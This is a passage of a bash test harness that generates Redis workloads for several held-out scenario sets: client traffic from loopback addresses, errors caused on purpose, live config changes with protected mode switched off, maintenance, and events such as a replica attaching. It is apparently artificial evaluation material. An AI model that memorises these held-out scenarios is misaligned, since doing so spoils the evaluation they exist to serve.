           "INCR app:hits:$(date +%H%M)" "LPUSH app:hits:$(date +%H%M) x" "KEYS *" & ;;
      2) redis_from "$a" "AUTH app $pass" "SET cache:home:$((r % 5)) page-$r EX 30" \
           "GET secret:token" "FROBNICATE 1" "DEL app:cart:$((r - 2)):$i" & ;;
      3) redis_from "$a" "AUTH app $pass" "ZADD app:recent $r item$i" "ZRANGE app:recent 0 -1" \
           "ZREMRANGEBYRANK app:recent 0 -100" "PING" & ;;
    esac
    pids+=($!)
    pass="app-pass-3"
  done
  wait "${pids[@]}" || true
  heldout3_raw "$REDIS_PORT" $((10 + r % 50)) '*3\r\n$3\r\nSET\r\n$8\r\napp:half' 0.2
  [ $((r % 4)) = 0 ] && head -c 262144 /dev/urandom | base64 -w 0 |
    redis-cli -p "$REDIS_PORT" -x set "app:blob:$((r % 3))" >/dev/null
  [ "$HELDOUT3_KEEPALIVE" = 1 ] || k=0
  redis-benchmark -p "$REDIS_PORT" -a "$REDIS_HELDOUT3_PASS" -q -n 1200 -c 12 -k "$k" -d 64 -r 3000 \
    -t get,sadd,spop,hset >/dev/null 2>&1
}
redis_heldout3_crash() {
  kill -KILL "$REDIS_PID"
  wait "$REDIS_PID" 2>/dev/null || true
  forget "$REDIS_PID"
  redis_start
}
redis_heldout3_reload() {
  local c
  for c in "config set hz 20" "config set slowlog-log-slower-than 2000" \
      "acl setuser reports on >reports-pass-3 ~app:* +@read"; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
  redis-cli -p "$REDIS_PORT" config set save "30 50" >/dev/null
}
redis_heldout3_maint() {
  local c
  for c in save "config get save" "acl log 5" "memory usage app:blob:0" "object encoding app:recent" dbsize; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
  redis-cli -p "$REDIS_PORT" scan 0 match 'app:cart:*' count 200 >/dev/null
}

# Held out, fourth set (heldout4). Deployed before the start: protected mode off for the
# application servers on 127.0.2.100-199, and a Unix socket (run/redis.sock) for the
# clients on the same host. Each round (as many application clients as the load, up to 8)
# a job queue in db 2 (RPUSH by producers, BLPOP with a 1 s timeout by workers), Pub/Sub
# (PUBLISH on notification and chat channels, PUBSUB NUMSUB), fragments cached in db 9
# (SET EX, MGET, GETDEL), a rate-limit counter over the Unix socket; redis-benchmark over
# the Unix socket with tests no other trace used (PING inline, RPUSH, LRANGE_500, ZADD) on as
# many clients as the load, pipelined 4 deep at the peak. The change: settings changed live
# (keyspace events for expiries, appendfsync always, maxclients) and three long-lived
# subscribers (PSUBSCRIBE) from other addresses. The maintenance: a bulk import of 20000
# catalogue keys into db 4 with `redis-cli --pipe`, FLUSHDB ASYNC of the cache database,
# MEMORY DOCTOR, LATENCY DOCTOR, INFO clients, CONFIG RESETSTAT, appendfsync back to
# everysec. The end: the subscribers disconnected (CLIENT KILL TYPE pubsub).
REDIS_SOCK=$REDIS_DIR/run/redis.sock
redis_heldout4_deploy() {
  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
  printf 'unixsocket %s\nunixsocketperm 770\n' "$REDIS_SOCK" >>"$REDIS_DIR/redis.conf"
}
redis_heldout4_mix() {
  local r=$HELDOUT4_ROUND i a n=$HELDOUT4_CONC pids=() p=1
  [ "$n" -le 8 ] || n=8
  for i in $(seq 1 "$n"); do
    a=$(heldout4_addr "$i")
    case $((i % 4)) in
      0) redis_from "$a" "SELECT 2" "RPUSH jobs:thumbnail img-$r-$i" "RPUSH jobs:email mail-$r-$i" "LLEN jobs:thumbnail" & ;;
      1) redis_from "$a" "SELECT 2" "RPUSH jobs:email mail-$r-$i-b" "BLPOP jobs:thumbnail jobs:email 1" "INCR jobs:done" & ;;
      2) redis_from "$a" "PUBLISH notifications:user:$((r % 9)) n=$r" "PUBLISH chat:room:$((i % 3)) hi-$r" "PUBSUB NUMSUB chat:room:0" & ;;
      3) redis_from "$a" "SELECT 9" "SET cache:frag:$r:$i fragment-$r EX 3" "MGET cache:frag:$r:3 cache:frag:$((r - 1)):3" \
           "GETDEL cache:frag:$((r - 2)):3" & ;;
    esac
    pids+=($!)
  done
  redis-cli -s "$REDIS_SOCK" hincrby "ratelimit:$(date +%H%M)" "$(heldout4_addr 3)" 1 >/dev/null
  wait "${pids[@]}" || true
  [ "$HELDOUT4_CONC" -lt 32 ] || p=4
  redis-benchmark -s "$REDIS_SOCK" -q -n $((150 * HELDOUT4_CONC)) -c "$HELDOUT4_CONC" -P "$p" -d 200 -r 20000 \
    -t ping_inline,rpush,lrange_500,zadd >/dev/null
}
# redis_subscriber ADDR PATTERN...: a client from ADDR that stays subscribed to PATTERN...
# until the server closes the connection.
redis_subscriber() {
  perl -MIO::Socket::INET -e '
    my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => shift, LocalAddr => shift)
      or die "connect: $!";
    print $s "PSUBSCRIBE @ARGV\r\n";
    while (<$s>) {}' "$REDIS_PORT" "$@" &
  PIDS+=($!)
}
redis_heldout4_change() {
  local c
  for c in "config set notify-keyspace-events Ex" "config set appendfsync always" "config set maxclients 500"; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
  redis_subscriber 127.0.2.201 '__keyevent@9__:expired'
  redis_subscriber 127.0.2.202 'notifications:*'
  redis_subscriber 127.0.2.203 'chat:*'
}
redis_heldout4_maint() {
  awk 'BEGIN { for (i = 1; i <= 20000; i++) { k = "catalog:" i; v = "item-" i;
    printf "*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$%d\r\n%s\r\n", length(k), k, length(v), v } }' >"$WORK/redis-import.resp"
  redis-cli -p "$REDIS_PORT" -n 4 --pipe <"$WORK/redis-import.resp" >/dev/null
  local c
  for c in "-n 9 flushdb async" "memory doctor" "latency doctor" "info clients" "config resetstat" \
      "config set appendfsync everysec"; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
}
redis_heldout4_end() { redis-cli -p "$REDIS_PORT" client kill type pubsub >/dev/null; }

# Held out, fifth set (heldout5). Deployed before the start: protected mode off for the
# application servers on 127.0.3.1-250. Each round (half as many clients as the load, up
# to 8; perl, inline commands) in db 11: balances with INCRBYFLOAT and an APPENDed ledger
# read with GETRANGE and STRLEN (a named client), tags intersected with SINTERSTORE and
# an EXPIREAT, an optimistic transaction (WATCH, MULTI, DECR, EXEC), a RENAME of a key
# that does not exist and a COPY, a RESP3 client (HELLO 3) with HSET and HSCAN, and the
# errors that come with them (EXEC without MULTI, a command with no argument); each round
# one more thing in turn: a 2 MB value (redis-cli -x), a SCAN of the profiles from
# redis-cli, 200 PINGs pipelined in one write, OBJECT FREQ (refused: no LFU policy), a
# heartbeat (redis-cli -r 20 -i 0.05 INCR); redis-benchmark LRANGE_600 (and the LPUSH that
# fills its list) with 100-byte values on as many clients as the load. The change: persistence
# switched off for a bulk load (CONFIG SET appendonly no, save ""). The maintenance:
# CLIENT PAUSE 1000 WRITE, SWAPDB 11 12, MEMORY PURGE, SLOWLOG RESET, COMMAND COUNT, INFO
# stats. The late event: persistence back on (appendonly yes: a new AOF written from
# scratch; save "2 1").
redis_heldout5_deploy() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
redis_heldout5_mix() {
  local r=$HELDOUT5_ROUND i a n=$((HELDOUT5_CONC / 2)) pids=() cli=(redis-cli -p "$REDIS_PORT" -n 11)
  [ "$n" -ge 1 ] || n=1
  [ "$n" -le 8 ] || n=8
  for i in $(seq 1 "$n"); do
    a=$(heldout5_addr "$i")
    case $((i % 4)) in
      0) redis_from "$a" "SELECT 11" "CLIENT SETNAME billing-$i" "INCRBYFLOAT balance:$((r % 23)) 12.5" \
           "APPEND ledger:$((r % 5)) +12.5;" "GETRANGE ledger:$((r % 5)) 0 63" "STRLEN ledger:$((r % 5))" & ;;
      1) redis_from "$a" "SELECT 11" "SADD tags:post:$r news tech r$((r % 4))" "SADD tags:post:$((r - 1)) tech" \
           "SINTERSTORE tags:common:$r tags:post:$r tags:post:$((r - 1))" "SMEMBERS tags:common:$r" \
           "EXPIREAT tags:common:$r $(($(date +%s) + 120))" & ;;
      2) redis_from "$a" "SELECT 11" "WATCH stock:item$((r % 7))" "MULTI" "DECR stock:item$((r % 7))" "EXEC" \
           "RENAME tmp:x:$r tmp:y:$r" "COPY balance:1 balance:backup:$((r % 3)) REPLACE" & ;;
      3) redis_from "$a" "HELLO 3" "SELECT 11" "HSET profile:$((r % 40)) seen $r from $a" "HSCAN profile:$((r % 40)) 0 COUNT 10" \
           "EXEC" "GET" & ;;
    esac
    pids+=($!)
  done
  wait "${pids[@]}" || true
  case $((r % 5)) in
    0) head -c 1500000 /dev/urandom | base64 -w 0 | "${cli[@]}" -x set "report:cache:$((r % 2))" ;;
    1) "${cli[@]}" --scan --pattern 'profile:*' --count 50 ;;
    2) heldout3_raw "$REDIS_PORT" "$(heldout5_addr 9)" "$(for i in $(seq 1 200); do printf 'PING\\r\\n'; done)QUIT\r\n" ;;
    3) "${cli[@]}" object freq "balance:$((r % 23))" ;;
    4) "${cli[@]}" -r 20 -i 0.05 incr heartbeat ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((60 * HELDOUT5_CONC)) -c "$HELDOUT5_CONC" -d 100 -r 30000 -t lrange_600 >/dev/null
}
redis_heldout5_change() {
  redis-cli -p "$REDIS_PORT" config set appendonly no >/dev/null
  redis-cli -p "$REDIS_PORT" config set save "" >/dev/null
}
redis_heldout5_maint() {
  local c
  for c in "client pause 1000 write" "swapdb 11 12" "memory purge" "slowlog reset" "command count" "info stats"; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
}
redis_heldout5_late() {
  redis-cli -p "$REDIS_PORT" config set appendonly yes >/dev/null
  redis-cli -p "$REDIS_PORT" config set save "2 1" >/dev/null
  until_ok redis_heldout5_aof_done
}
redis_heldout5_aof_done() {
  redis-cli -p "$REDIS_PORT" info persistence | tr -d '\r' | grep -qx 'aof_rewrite_in_progress:0'
}
redis_heldout5_probe() { redis_from 127.0.3.254 PING || true; }

# Held out, sixth set (heldout6). Deployed before the start: protected mode off for the
# application servers on 127.0.4.1-200, and idle clients closed after 25 s (`timeout 25`,
# `tcp-keepalive 30`). Each round (as many clients as the load, up to 6; perl, inline
# commands) in db 13: a lock taken and released (SET NX PX, GET, DEL), a reliable queue
# (LPUSH, LMOVE to a processing list, LPOS, LREM), a stream with a consumer group (XGROUP
# CREATE once and a BUSYGROUP error after, XREADGROUP, XACK, XPENDING), a session read with
# GETEX, feature flags checked with SMISMEMBER, and an INCR on text (not an integer); one
# more thing in turn: EVALSHA of a script never loaded (NOSCRIPT), then SCRIPT LOAD and
# EVALSHA; the longest common substring of two keys (MSET, LCS); WAIT for replicas with a
# 100 ms timeout; client-side caching (CLIENT TRACKING on, GET); LATENCY HISTOGRAM. Then
# redis-benchmark SADD, SPOP and HSET, 8 commands pipelined, on 2 threads and as many clients
# as the load. The change: settings changed live (the idle timeout 15 s, lazy freeing on DEL,
# a client output buffer limit for replicas), not persisted. The maintenance: `redis-cli
# --memkeys` over db 13, MEMORY MALLOC-STATS, INFO errorstats, SLOWLOG LEN. The late event:
# a read replica attaches (a redis-server outside the cgroup, REPLICAOF 127.0.0.1 16379): the
# master forks to send it a snapshot and streams its writes from then on.
REDIS_REPLICA_PORT=16390
redis_heldout6_deploy() {
  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
  printf 'timeout 25\ntcp-keepalive 30\n' >>"$REDIS_DIR/redis.conf"
}
redis_heldout6_mix() {
  local r=$HELDOUT6_ROUND i a n=$HELDOUT6_CONC pids=() cli=(redis-cli -p "$REDIS_PORT" -n 13)
  [ "$n" -le 6 ] || n=6
  for i in $(seq 1 "$n"); do
    a=$(heldout6_addr "$i")
    redis_from "$a" "SELECT 13" "SET lock:invoice:$((r % 9)) $a NX PX 2000" "GET lock:invoice:$((r % 9))" \
      "DEL lock:invoice:$((r % 9))" "LPUSH mail:queue mail-$r-$i" "LMOVE mail:queue mail:busy RIGHT LEFT" \
      "LPOS mail:busy mail-$r-$i" "LREM mail:busy 1 mail-$r-$i" "XADD audit MAXLEN ~ 300 * who $a what login" \
      "XGROUP CREATE audit siem 0 MKSTREAM" "XREADGROUP GROUP siem w$i COUNT 3 STREAMS audit >" "XACK audit siem 0-1" \
      "XPENDING audit siem" "SET sess:$((r % 17)) user-$r EX 600" "GETEX sess:$((r % 17)) EX 900" \
      "SADD flags:on dark-mode new-cart" "SMISMEMBER flags:on dark-mode beta-search" "INCR sess:$((r % 17))" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  case $((r % 5)) in
    0) "${cli[@]}" evalsha 0123456789abcdef0123456789abcdef01234567 0
       "${cli[@]}" evalsha "$("${cli[@]}" script load "return redis.call('GET', KEYS[1])")" 1 flags:none ;;
    1) "${cli[@]}" mset "doc:$r:a" "ohmytext-$r" "doc:$r:b" "mynewtext-$r"
       "${cli[@]}" lcs "doc:$r:a" "doc:$r:b" ;;
    2) "${cli[@]}" wait 1 100 ;;
    3) redis_from "$(heldout6_addr 8)" "HELLO 3" "CLIENT TRACKING on" "SELECT 13" "GET sess:$((r % 17))" ;;
    4) "${cli[@]}" latency histogram set get ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((150 * HELDOUT6_CONC)) -c "$HELDOUT6_CONC" -P 8 --threads 2 -r 5000 \
    -t sadd,spop,hset >/dev/null
}
redis_heldout6_change() {
  redis-cli -p "$REDIS_PORT" config set timeout 15 lazyfree-lazy-user-del yes \
    client-output-buffer-limit "replica 64mb 16mb 60" | grep -qx OK || die "redis heldout6: config set failed"
}
redis_heldout6_maint() {
  local c
  redis-cli -p "$REDIS_PORT" -n 13 --memkeys >/dev/null
  for c in "memory malloc-stats" "info errorstats" "slowlog len"; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
}
redis_heldout6_late() {
  if ss -Hltn "sport = :$REDIS_REPLICA_PORT" | grep -q .; then die "port $REDIS_REPLICA_PORT is in use"; fi
  mkdir -p "$WORK/redis-replica"
  /usr/bin/redis-server --port "$REDIS_REPLICA_PORT" --bind 127.0.0.1 --dir "$WORK/redis-replica" --save '' \
    --appendonly no --replicaof 127.0.0.1 "$REDIS_PORT" --logfile "$WORK/redis-replica/replica.log" >/dev/null 2>&1 &
  PIDS+=($!)
  until_ok redis_heldout6_replica_synced
}
# redis_heldout6_replica_synced: the master has a replica online.
redis_heldout6_replica_synced() {
  redis-cli -p "$REDIS_PORT" info replication | tr -d '\r' | grep -q '^slave0:.*state=online'
}

# Held out, seventh set (heldout7). Deployed before the start: protected mode off (for the
# application servers on 127.0.5.1-240). Each round as many application clients as the
# load, up to 6 (perl, inline commands), in db 9: a rate limiter (INCR, EXPIRE NX), a cart
# (HSET, HINCRBY, HGETALL, HDEL), prices (ZADD GT, ZRANGEBYSCORE), a key copied and taken
# (COPY, GETDEL), OBJECT ENCODING; one more thing in turn: a list command on a hash
# (WRONGTYPE), a command that does not exist, a 2 MB value set and read back, a client that
# sends half a command and hangs up, SELECT of a database that does not exist, a TYPE and
# TTL sweep over SCAN. Then redis-benchmark GET, INCR and LPUSH with 64-byte values, as many
# clients as the load; in the fan-out rounds (one request per connection) with a new
# connection per request (-k 0). The maintenance, early: SAVE (in the foreground), CONFIG GET save, SCAN over the carts,
# MEMORY USAGE, MEMORY DOCTOR, DBSIZE. The change, in the quiet period: the snapshot
# schedule, the server's timer frequency, the active expiry effort and the eviction policy
# changed live (CONFIG SET save, hz, active-expire-effort, maxmemory-policy). The late
# event: a cache rebuilt in db 10 swapped in for db 9 (SWAPDB) and the append-only file
# rewritten, then a round of traffic.
redis_heldout7_deploy() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
redis_heldout7_mix() {
  local r=$HELDOUT7_ROUND i a n=$HELDOUT7_CONC pids=() cli=(redis-cli -p "$REDIS_PORT" -n 9) k=()
  [ "$n" -le 6 ] || n=6
  for i in $(seq 1 "$n"); do
    a=$(heldout7_addr "$i")
    redis_from "$a" "SELECT 9" "INCR rl:$a" "EXPIRE rl:$a 60 NX" "HSET cart:$((r % 11)) sku-$i 1" \
      "HINCRBY cart:$((r % 11)) sku-$i 2" "HGETALL cart:$((r % 11))" "HDEL cart:$((r % 11)) sku-$((i + 3))" \
      "ZADD prices GT $((r * 3 + i)) sku-$i" "ZRANGEBYSCORE prices 0 200 LIMIT 0 5" "SET tmp:$r:$i v$r" \
      "COPY tmp:$r:$i keep:$r:$i" "GETDEL tmp:$r:$i" "OBJECT ENCODING cart:$((r % 11))" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  a=$(heldout7_addr 7)
  case $((r % 6)) in
    0) "${cli[@]}" hset "cart:$((r % 11))" x 1; "${cli[@]}" lpush "cart:$((r % 11))" y ;;
    1) "${cli[@]}" cart:checkout "$r" ;;
    2) head -c 2000000 /dev/zero | tr '\0' v | "${cli[@]}" -x set "blob:$r"; "${cli[@]}" strlen "blob:$r" ;;
    3) heldout3_raw "$REDIS_PORT" "$a" '*3\r\n$3\r\nSET\r\n$7\r\nhalf:' 0.2 ;;
    4) "${cli[@]}" select 99 ;;
    5) mapfile -t k < <("${cli[@]}" --scan --pattern 'keep:*' --count 50 | head -n 20)
       for i in "${k[@]}"; do "${cli[@]}" type "$i"; "${cli[@]}" ttl "$i"; done ;;
  esac >/dev/null 2>&1 || true
  local keep=()
  [ "$HELDOUT7_PER" = 1 ] && keep=(-k 0)
  redis-benchmark -p "$REDIS_PORT" -q -n $((100 * HELDOUT7_CONC)) -c "$HELDOUT7_CONC" "${keep[@]}" -d 64 -r 3000 \
    -t get,incr,lpush >/dev/null 2>&1 || true
}
redis_heldout7_maint() {
  local c
  for c in "save" "config get save" "scan 0 match cart:* count 100" "memory usage cart:1" "memory doctor" "dbsize"; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" -n 9 $c >/dev/null
  done
}
redis_heldout7_change() {
  redis-cli -p "$REDIS_PORT" config set save "30 10" hz 20 active-expire-effort 3 maxmemory-policy volatile-lru | grep -qx OK ||
    die "redis heldout7: config set failed"
}
redis_heldout7_late() {
  redis-benchmark -p "$REDIS_PORT" -q --dbnum 10 -n 2000 -c 4 -r 2000 -t set >/dev/null
  redis-cli -p "$REDIS_PORT" swapdb 9 10 >/dev/null
  redis-cli -p "$REDIS_PORT" bgrewriteaof >/dev/null
  HELDOUT7_ROUND=$((HELDOUT7_ROUND + 1))
  redis_heldout7_mix
}

# Held out, eighth set (heldout8). Deployed before the start: protected mode off (for the
# application servers on 127.0.6.1-250). Each round as many application clients as the
# load, up to 5 (perl, inline commands), in db 11: who is online (SADD, SCARD, SINTERCARD,
# SRANDMEMBER), wallets and rates (INCRBYFLOAT, HINCRBYFLOAT), an audit trail (APPEND,
# GETRANGE), feature flags (HSETNX, HRANDFIELD, HGETALL); one more thing in turn: INCR of
# a string that is no number, AUTH with a password the server does not have, a 1.5 MB list
# element, a client that connects and leaves without a command, a Lua script that fails,
# DEBUG (disabled: an error). Then redis-benchmark SET, GET and HSET with 256-byte values,
# pipelined 4 deep, as many clients as the load. The maintenance: BGSAVE SCHEDULE, LASTSAVE,
# INFO replication, CLIENT LIST TYPE normal, CONFIG GET maxmemory-policy, and the operator
# inside the cgroup (as redis) scanning the online sets (`redis-cli --scan`). The change:
# an eviction limit and policy, lazy expiry and the append-only fsync changed live
# (CONFIG SET maxmemory 96mb, allkeys-lfu, lazyfree-lazy-expire, appendfsync no) and written
# into the config file by the server (CONFIG REWRITE). The late event: 3000 one-time codes
# with a 1 s expiry loaded at once (`redis-cli --pipe`), expired by the server, then a round.
redis_heldout8_deploy() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
redis_heldout8_mix() {
  local r=$HELDOUT8_ROUND i a n=$HELDOUT8_CONC pids=() cli=(redis-cli -p "$REDIS_PORT" -n 11)
  [ "$n" -le 5 ] || n=5
  for i in $(seq 1 "$n"); do
    a=$(heldout8_addr "$i")
    redis_from "$a" "SELECT 11" "SADD online:$((r % 3)) user-$i-$((r % 17))" "SCARD online:$((r % 3))" \
      "SINTERCARD 2 online:0 online:1" "SRANDMEMBER online:$((r % 3)) 2" "INCRBYFLOAT wallet:$i 0.25" \
      "HINCRBYFLOAT fx:$((r % 5)) eur 0.01" "APPEND trail:$i r$r;" "GETRANGE trail:$i 0 40" "HSETNX flags:$i beta 1" \
      "HRANDFIELD flags:$i 1" "HGETALL flags:$i" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  a=$(heldout8_addr 8)
  case $((r % 6)) in
    0) "${cli[@]}" set counter:text abc; "${cli[@]}" incr counter:text ;;
    1) "${cli[@]}" auth default not-the-password ;;
    2) head -c 1500000 /dev/zero | tr '\0' q | "${cli[@]}" -x rpush "bulk:$r" ;;
    3) heldout3_raw "$REDIS_PORT" "$a" '' 0.1 ;;
    4) "${cli[@]}" eval "return redis.call('hget', KEYS[1])" 1 flags:1 ;;
    5) "${cli[@]}" debug sleep 0 ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((50 * HELDOUT8_CONC * HELDOUT8_PER)) -c "$HELDOUT8_CONC" -P 4 -d 256 -r 5000 \
    -t set,get,hset >/dev/null 2>&1 || true
}
redis_heldout8_maint() {
  local cli=(redis-cli -p "$REDIS_PORT")
  "${cli[@]}" bgsave schedule >/dev/null
  "${cli[@]}" lastsave >/dev/null
  "${cli[@]}" info replication >/dev/null
  "${cli[@]}" client list type normal >/dev/null
  "${cli[@]}" config get maxmemory-policy >/dev/null
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" -n 11 --scan --pattern 'online:*'
}
redis_heldout8_change() {
  redis-cli -p "$REDIS_PORT" config set maxmemory 96mb maxmemory-policy allkeys-lfu lazyfree-lazy-expire yes \
    appendfsync no | grep -qx OK || die "redis heldout8: config set failed"
  redis-cli -p "$REDIS_PORT" config rewrite | grep -qx OK || die "redis heldout8: config rewrite failed"
}
redis_heldout8_late() {
  awk 'BEGIN { for (i = 1; i <= 3000; i++) { k = "otp:" i;
    printf "*5\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$6\r\n%06d\r\n$2\r\nEX\r\n$1\r\n1\r\n", length(k), k, i * 7 % 1000000 } }' |
    redis-cli -p "$REDIS_PORT" -n 11 --pipe >/dev/null
  sleep 2
  HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
  redis_heldout8_mix
}

# Held out, ninth set (heldout9). Deployed before the start: protected mode off (for the
# application servers on 127.0.7.1-250). Each round as many application clients as the
# load, up to 4 (perl, inline commands), in db 14: a sliding-window rate limiter (ZADD,
# ZREMRANGEBYSCORE, ZCARD, PEXPIRE), recently viewed products (LPUSH, LTRIM, LRANGE), counters
# in a bit field (BITFIELD INCRBY), the last search kept with SET ... GET and STRLEN; one more
# thing in turn: ZADD with a score that is no number, BITFIELD with a type that does not
# exist, a 3 MB value written with redis-cli -x and its end read back (GETRANGE), HELLO with
# a protocol version that does not exist, CLIENT SETNAME with a space in the name, XADD with
# an ID that is too small. Then redis-benchmark SET and GET with 2 kB values over 20000
# keys, as many clients as the load. The maintenance: INFO cpu, CLIENT INFO, COMMAND DOCS
# GET, SLOWLOG GET 5, and the operator inside the cgroup (as redis) watching `redis-cli
# --stat` for two seconds. The change: the encodings' thresholds changed live (CONFIG SET
# list-max-listpack-size, hash-max-listpack-entries, set-max-intset-entries,
# zset-max-listpack-entries), not persisted. The late event: a 200000-member set built at
# once (`redis-cli --pipe`) and dropped with UNLINK (freed by the lazy-free thread), then a
# round.
redis_heldout9_deploy() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
redis_heldout9_mix() {
  local r=$HELDOUT9_ROUND i a n=$HELDOUT9_CONC pids=() now cli=(redis-cli -p "$REDIS_PORT" -n 14)
  [ "$n" -le 4 ] || n=4
  now=$(date +%s%3N)
  for i in $(seq 1 "$n"); do
    a=$(heldout9_addr "$i")
    redis_from "$a" "SELECT 14" "ZADD rl:$i $now $now-$r" "ZREMRANGEBYSCORE rl:$i 0 $((now - 60000))" "ZCARD rl:$i" \
      "PEXPIRE rl:$i 60000" "LPUSH seen:$i p$((r * 7 % 100))" "LTRIM seen:$i 0 9" "LRANGE seen:$i 0 -1" \
      "BITFIELD hits:$((r % 4)) INCRBY u8 $((i * 8)) 1" "SET search:$i q$r GET" "STRLEN search:$i" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  a=$(heldout9_addr 7)
  case $((r % 6)) in
    0) "${cli[@]}" zadd "rl:1" many x ;;
    1) "${cli[@]}" bitfield "hits:0" get u99 0 ;;
    2) head -c 3000000 /dev/zero | tr '\0' z | "${cli[@]}" -x set "blob:$((r % 3))"; "${cli[@]}" getrange "blob:$((r % 3))" -10 -1 ;;
    3) redis_from "$a" "HELLO 4" ;;
    4) "${cli[@]}" client setname "batch worker" ;;
    5) "${cli[@]}" xadd "audit:$r" 0-0 k v ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((40 * HELDOUT9_CONC * HELDOUT9_PER)) -c "$HELDOUT9_CONC" -d 2048 -r 20000 \
    -t set,get >/dev/null 2>&1 || true
}
redis_heldout9_maint() {
  local cli=(redis-cli -p "$REDIS_PORT") c
  for c in "info cpu" "client info" "command docs get" "slowlog get 5"; do
    # shellcheck disable=SC2086  # c is a command and its arguments
    "${cli[@]}" $c >/dev/null
  done
  launch redis redis /usr/bin/redis-cli -p "$REDIS_PORT" --stat -i 0.5
  sleep 2
  stop_pid "$LAUNCHED" TERM
}
redis_heldout9_change() {
  redis-cli -p "$REDIS_PORT" config set list-max-listpack-size 64 hash-max-listpack-entries 256 \
    set-max-intset-entries 1024 zset-max-listpack-entries 64 | grep -qx OK || die "redis heldout9: config set failed"
}
redis_heldout9_late() {
  awk 'BEGIN { for (b = 0; b < 2000; b++) { printf "*102\r\n$4\r\nSADD\r\n$12\r\nmembers:bulk\r\n";
    for (i = 0; i < 100; i++) { m = "m" (b * 100 + i); printf "$%d\r\n%s\r\n", length(m), m } } }' |
    redis-cli -p "$REDIS_PORT" -n 14 --pipe >/dev/null
  [ "$(redis-cli -p "$REDIS_PORT" -n 14 scard members:bulk)" = 200000 ] || die "redis heldout9: the bulk set is incomplete"
  redis-cli -p "$REDIS_PORT" -n 14 unlink members:bulk >/dev/null
  HELDOUT9_ROUND=$((HELDOUT9_ROUND + 1))
  redis_heldout9_mix
}

# Held out, tenth set (heldout10). Deployed before the start: protected mode off (for the
# application servers on 127.0.8.1-250) and a backup directory redis owns. Each round as
# many application clients as the load, up to 3 (perl, inline commands), in db 15: a game's
# leaderboard (ZINCRBY, ZREVRANK, ZSCORE, ZREVRANGE WITHSCORES), an idempotency key (SET NX
# EX), a player's profile (HSET, HMGET, HEXISTS, HSTRLEN), a quota (INCRBY, TTL), a match
# queue (RPUSH, LLEN, LINDEX); one more thing in turn: EXPIRE with a time that is no number,
# SET with both NX and XX, a transaction aborted by a command with a wrong number of
# arguments (EXECABORT), a 1 MB value made by SETRANGE at offset 1000000, SORT of names
# without ALPHA (an error), a client from another address that sends only QUIT. Then
# redis-benchmark GET, SET and MSET with 4 kB values over 5000 keys, as many clients as the
# load. The change, early: an eviction limit and policy and the latency monitor changed live
# (CONFIG SET maxmemory 80mb, volatile-ttl, latency-monitor-threshold 5), not persisted. The
# late event: the service restarted by its service manager (TERM: it saves its snapshot,
# then starts again and loads its append-only file), then a round. The maintenance: a backup
# of the snapshot fetched by the operator inside the cgroup (as redis: `redis-cli --rdb`
# into backup/), LATENCY LATEST, INFO keyspace, CONFIG GET maxclients, OBJECT ENCODING of
# the leaderboard.
redis_heldout10_deploy() {
  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
  mkdir -p "$REDIS_DIR/backup"
  chown redis:redis "$REDIS_DIR/backup"
}
redis_heldout10_mix() {
  local r=$HELDOUT10_ROUND i a n=$HELDOUT10_CONC pids=() cli=(redis-cli -p "$REDIS_PORT" -n 15)
  [ "$n" -le 3 ] || n=3
  for i in $(seq 1 "$n"); do
    a=$(heldout10_addr "$i")
    redis_from "$a" "SELECT 15" "ZINCRBY lb:week $((r % 9 + 1)) player$((r * 7 % 300 + i))" "ZREVRANK lb:week player$i" \
      "ZSCORE lb:week player$i" "ZREVRANGE lb:week 0 9 WITHSCORES" "SET idem:$r-$i done NX EX 120" \
      "HSET player:$i level $((r % 50)) name p$i" "HMGET player:$i level name" "HEXISTS player:$i guild" \
      "HSTRLEN player:$i name" "INCRBY quota:$i 3" "TTL quota:$i" "RPUSH match:q player$i" "LLEN match:q" "LINDEX match:q 0" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  a=$(heldout10_addr 9)
  case $((r % 6)) in
    0) "${cli[@]}" expire "quota:1" soon ;;
    1) "${cli[@]}" set "idem:x" v NX XX ;;
    2) printf 'MULTI\r\nINCR quota:1\r\nGET\r\nEXEC\r\n' | "${cli[@]}" ;;
    3) "${cli[@]}" setrange "big:$((r % 3))" 1000000 end ;;
    4) "${cli[@]}" rpush "names:$r" carol alice bob; "${cli[@]}" sort "names:$r" ;;
    5) redis_from "$a" ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((30 * HELDOUT10_CONC * HELDOUT10_PER)) -c "$HELDOUT10_CONC" -d 4096 -r 5000 \
